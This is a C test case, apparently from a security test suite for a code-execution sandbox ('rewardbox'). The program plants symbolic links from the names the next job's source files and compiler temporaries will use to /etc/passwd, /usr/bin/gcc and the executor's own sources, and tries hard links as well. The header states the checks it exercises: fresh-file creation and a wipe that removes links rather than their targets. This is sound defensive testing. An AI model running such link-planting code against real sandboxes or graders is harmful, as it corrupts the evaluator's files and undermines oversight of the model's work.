// attack: the work dir's source and binary (main.c, main) and the names the next
//   C job writes or the compiler creates (main.c, main, main.o, a.out, /tmp/cc*.s,
//   /tmp/cc*.o) replaced by symbolic links to the executor's sources, /etc/passwd
//   and the compiler itself, and by hard links where the kernel allows one: the
//   next job's prepare (O_EXCL|O_NOFOLLOW) and compile must write fresh files, never
//   through a link, and the wipe must remove the links, not their targets.
// language: c
// expect: accepted
// expected_output: planted
// limits: {"time_limit_s": 2, "wall_time_limit_s": 4, "memory_limit_mb": 64}
#include <stdio.h>
#include <unistd.h>

static const char *names[] = {"main.c", "main", "main.o", "a.out", "main.cpp", "main.py", "main.sh"};
static const char *targets[] = {
    "/opt/rewardbox/executor/server.py", "/etc/passwd", "/usr/bin/gcc", "/opt/rewardbox/executor",
};

int main(void) {
    char path[256];
    unlink("main.c");
    unlink("main");
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        const char *target = targets[i % (sizeof targets / sizeof *targets)];
        symlink(target, names[i]);
        snprintf(path, sizeof path, "/tmp/%s", names[i]);
        symlink(target, path);
        snprintf(path, sizeof path, "/dev/shm/%s", names[i]);
        symlink(target, path);
    }
    // names gcc and cc1 use for temporaries under TMPDIR, as links out
    for (int i = 0; i < 64; i++) {
        snprintf(path, sizeof path, "/tmp/cc%06d.s", i);
        symlink("/opt/rewardbox/executor/spawn.py", path);
        snprintf(path, sizeof path, "/tmp/cc%06d.o", i);
        symlink("/opt/rewardbox/executor/protocol.py", path);
    }
    // hard links to outside files cross a mount: refused
    if (link("/opt/rewardbox/executor/server.py", "hard") == 0 || link("/usr/bin/gcc", "/tmp/hard") == 0)
        printf("hardlinked ");
    printf("planted\n");
    return 0;
}
